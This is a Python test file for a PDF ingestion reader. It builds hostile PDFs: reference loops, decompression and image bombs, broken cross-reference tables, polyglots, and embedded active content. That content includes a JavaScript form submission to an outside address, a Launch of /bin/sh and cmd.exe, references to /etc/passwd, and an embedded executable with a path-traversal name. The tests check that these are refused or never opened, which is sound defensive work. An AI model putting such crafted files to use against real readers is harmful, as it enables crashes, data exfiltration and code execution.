"""PDFs that loop, unfold, lie about themselves or carry programs: each is read for what it shows or refused.

Names carry the requirement of OWASP ASVS 5.0, chapter V5, that the test covers (docs/safety.md).
"""

from __future__ import annotations

import zlib
from pathlib import Path

import pytest
from PIL import Image

from ingestion import Limits, read_file
from records.errors import (
    AnamneseError,
    DamagedFile,
    FileRefused,
    ReaderCrashed,
    ReadingFailed,
    TooLongSide,
    TooManyPages,
    TooManyPixels,
    UnsupportedFile,
)
from tests.fuzz.makers import deflated_many_times, image_pdf, one_page_pdf, pdf, stream

LIMITS = Limits(max_seconds=60)
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 80] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
CONTENT = stream(b"BT /F1 12 Tf 10 40 Td (Paracetamol 1 g le soir) Tj ET")
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
SHOWN = "Paracetamol 1 g le soir"


def outcome(content: bytes, tmp_path: Path, limits: Limits = LIMITS) -> str:
    """The text of the file, or the code of its typed refusal; never a defect of our own."""
    path = tmp_path / "hostile.pdf"
    path.write_bytes(content)
    try:
        return "\n".join(page.text for page in read_file(path, limits=limits).pages)
    except (FileRefused, ReadingFailed) as error:
        assert not (isinstance(error, ReaderCrashed) and isinstance(error.details["exit_code"], str))
        return error.code


LOOPS = {
    "the page tree is its own child": pdf([CATALOGUE, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
    "two page trees hold each other": pdf(
        [CATALOGUE, b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"]
    ),
    "a page is its own parent": pdf([CATALOGUE, TREE, PAGE.replace(b"/Parent 2 0 R", b"/Parent 3 0 R"), CONTENT, FONT]),
    "parents go round": pdf(
        [CATALOGUE, TREE.replace(b">>", b"/Parent 6 0 R >>"), PAGE, CONTENT, FONT, b"<< /Type /Pages /Parent 2 0 R >>"]
    ),
    "a drawing draws itself": one_page_pdf(
        b"/X Do BT /F1 12 Tf 10 40 Td (Paracetamol 1 g le soir) Tj ET",
        resources=b"/XObject << /X 6 0 R >>",
        more=[stream(b"/X Do", b"/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")],
    ),
    "outlines go round": one_page_pdf(
        catalogue=b"/Outlines 6 0 R",
        more=[b"<< /First 7 0 R /Last 7 0 R /Count 1 >>", b"<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>"],
    ),
    "a length is its own stream": one_page_pdf().replace(b"<< /Length 53 ", b"<< /Length 4 0 R "),
    "fields of a form go round": one_page_pdf(
        page=b"/Annots [6 0 R]",
        catalogue=b"/AcroForm << /Fields [6 0 R] >>",
        more=[b"<< /Subtype /Widget /FT /Tx /V (x) /Rect [1 1 50 20] /Parent 6 0 R /Kids [6 0 R] >>"],
    ),
    "an older cross-reference is itself": one_page_pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 700"),
    "an object is a reference to itself": one_page_pdf(more=[b"6 0 R"], resources=b"/ExtGState 6 0 R"),
}


@pytest.mark.parametrize("name", LOOPS)
def test_v5_2_1_a_loop_ends(name: str, tmp_path: Path) -> None:
    # PDFium itself may run out of stack; that costs the child.
    assert outcome(LOOPS[name], tmp_path) in {SHOWN, "", "damaged_file", "reader_crashed"}


def _wide(rows: int) -> bytes:
    return b"/Width 20000 /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 " % rows


BOMBS = {
    "deflate over deflate over deflate": one_page_pdf(
        more=[stream(deflated_many_times(bytes(30_000_000), 2), b"/Filter [/FlateDecode /FlateDecode]")],
    ).replace(b"/Contents 4 0 R", b"/Contents 6 0 R"),
    "a picture of 400 million points": image_pdf(zlib.compress(bytes(1000)), _wide(20_000) + b"/Filter /FlateDecode"),
    "a predictor over endless columns": image_pdf(
        zlib.compress(bytes(1_000_000)),
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode "
        b"/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
    ),
    "an object stream of two billion objects": one_page_pdf(
        more=[stream(zlib.compress(b"7 0 " * 9999), b"/Type /ObjStm /N 2147483647 /First 39996 /Filter /FlateDecode")]
    ),
    "brackets a hundred thousand deep": one_page_pdf(more=[b"[" * 100_000 + b"]" * 100_000]),
    "dictionaries fifty thousand deep": one_page_pdf(resources=b"/A " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_000),
    "states saved a million times": one_page_pdf(b"q " * 1_000_000),
    "a font of a million points": one_page_pdf(b"BT /F1 1000000 Tf 10 40 Td (Paracetamol) Tj ET"),
    "a pattern of tiny tiles": one_page_pdf(
        b"/Pattern cs /P scn 0 0 200 80 re f",
        resources=b"/Pattern << /P 6 0 R >>",
        more=[
            stream(
                b"0 0 1 1 re f",
                b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << >>",
            )
        ],
    ),
    "a JBIG2 page of no end": image_pdf(
        bytes.fromhex("000000003000010000001300ffffff00ffffff000000000000000001000000"),
        b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
    ),
    "a JPEG 2000 that lies about its size": image_pdf(
        bytes.fromhex("ff4fff5100290000ffffffffffffffff0000000000000000ffffffffffffffff0000000000000000000107")
        + b"\x01\x01\xff\xd9",
        b"/Filter /JPXDecode",
    ),
    "a fax strip of a billion rows": image_pdf(
        b"\x00\x10\x01" * 100,
        b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode "
        b"/DecodeParms << /K -1 /Columns 400 /Rows 1000000000 >>",
    ),
}


@pytest.mark.parametrize("name", BOMBS)
def test_v5_2_3_what_unfolds_without_end_is_stopped(name: str, tmp_path: Path) -> None:
    stopped = {"damaged_file", "too_many_pixels", "reading_timed_out", "reading_out_of_memory"}
    assert outcome(BOMBS[name], tmp_path, Limits(max_seconds=4, max_memory_mb=1500)) in {SHOWN, "", *stopped}


@pytest.mark.parametrize(
    ("box", "error"),
    [
        (b"0 0 14400 14400", TooManyPixels),
        (b"0 0 14400 20", TooLongSide),
        (b"0 0 1000000 1000000", DamagedFile),
        (b"0 0 0 0", None),
        (b"-1e30 -1e30 1e30 1e30", None),
        (b"10 10 5 5", None),
        (b"0 0 0.01 0.01", None),
    ],
)
def test_v5_2_6_a_page_is_drawn_only_where_it_fits(
    box: bytes, error: type[AnamneseError] | None, tmp_path: Path
) -> None:
    path = tmp_path / "page.pdf"
    path.write_bytes(one_page_pdf(b"10 10 100 40 re f", box=box))
    try:
        read_file(path, limits=LIMITS)
    except FileRefused as refusal:
        assert error is None or type(refusal) is error
    else:
        assert error is None


def test_v5_2_1_ten_thousand_pages_are_refused_by_their_number(tmp_path: Path) -> None:
    kids = b" ".join([b"3 0 R"] * 10_000)
    content = pdf([CATALOGUE, b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % kids, PAGE, CONTENT, FONT])
    path = tmp_path / "long.pdf"
    path.write_bytes(content)
    with pytest.raises(TooManyPages) as refusal:
        read_file(path, limits=LIMITS)
    assert refusal.value.details["pages"] == 10_000


def test_v5_2_2_a_count_of_pages_that_lies_is_no_danger(tmp_path: Path) -> None:
    lie = pdf([CATALOGUE, TREE.replace(b"/Count 1", b"/Count 999999999"), PAGE, CONTENT, FONT])
    assert outcome(lie, tmp_path) in {SHOWN, "too_many_pages", "damaged_file"}


@pytest.mark.parametrize(
    "broken",
    [
        lambda whole: whole.replace(b"0000000009", b"0000009999"),
        lambda whole: whole.replace(b"startxref\n", b"startxref\n9999999999"),
        lambda whole: whole[: whole.index(b"xref")],
        lambda whole: whole.replace(b"xref\n0 6", b"xref\n0 4294967295"),
        lambda whole: whole.replace(b"endobj", b""),
        lambda whole: whole + whole,
    ],
    ids=["wrong places", "no such table", "no table", "an endless table", "objects without end", "twice"],
)
def test_v5_2_2_a_broken_cross_reference_is_mended_or_refused(broken: object, tmp_path: Path) -> None:
    assert outcome(broken(one_page_pdf()), tmp_path) in {SHOWN, "damaged_file"}  # type: ignore[operator]


PROGRAMS = {
    "javascript": {"catalogue": b"/OpenAction << /S /JavaScript /JS (this.submitForm\\('http://192.0.2.1'\\)) >>"},
    "launch": {"catalogue": b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"},
    "address": {"catalogue": b"/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"},
    "other file": {"catalogue": b"/OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>"},
    "page action": {"page": b"/AA << /O << /S /JavaScript /JS (while\\(1\\){}) >> >>"},
    "attachment": {
        "catalogue": b"/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>",
        "more": [
            b"<< /Type /Filespec /F (../../x.exe) /EF << /F 7 0 R >> >>",
            stream(b"MZ" + bytes(50), b"/Type /EmbeddedFile"),
        ],
    },
    "other file's content": {
        "page": b"/Annots [6 0 R]",
        "more": [stream(b"", b"/F (/etc/passwd) /FFilter /ASCIIHexDecode")],
    },
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_v5_3_2_programs_and_files_inside_are_never_opened(name: str, tmp_path: Path) -> None:
    assert outcome(one_page_pdf(**PROGRAMS[name]), tmp_path) == SHOWN  # type: ignore[arg-type]
    assert [path.name for path in tmp_path.iterdir()] == ["hostile.pdf"]


def test_v5_2_2_a_pdf_behind_a_picture_is_read_as_the_picture(tmp_path: Path) -> None:
    picture = tmp_path / "a.png"
    Image.new("L", (60, 40), 255).save(picture)
    assert outcome(picture.read_bytes() + one_page_pdf(), tmp_path) == ""


@pytest.mark.parametrize(
    "front", [b"GIF89a/*", b"PK\x03\x04", b"\n", b"MZ", b"<html>"], ids=["gif", "zip", "space", "program", "page"]
)
def test_v5_2_2_a_pdf_that_does_not_begin_the_file_is_refused(front: bytes, tmp_path: Path) -> None:
    path = tmp_path / "two.pdf"
    path.write_bytes(front + one_page_pdf())
    with pytest.raises(UnsupportedFile):
        read_file(path, limits=LIMITS)


def test_v5_2_2_an_archive_behind_a_pdf_is_not_opened(tmp_path: Path) -> None:
    archive = b"PK\x03\x04" + bytes(40) + b"PK\x05\x06" + bytes(18)
    assert outcome(one_page_pdf() + archive, tmp_path) in {SHOWN, "damaged_file"}


@pytest.mark.parametrize("share", [0.02, 0.3, 0.6, 0.9, 0.97])
def test_v5_2_2_half_a_pdf_is_read_as_far_as_it_goes_or_refused(share: float, tmp_path: Path) -> None:
    whole = one_page_pdf()
    assert outcome(whole[: int(share * len(whole))], tmp_path) in {SHOWN, "damaged_file", ""}
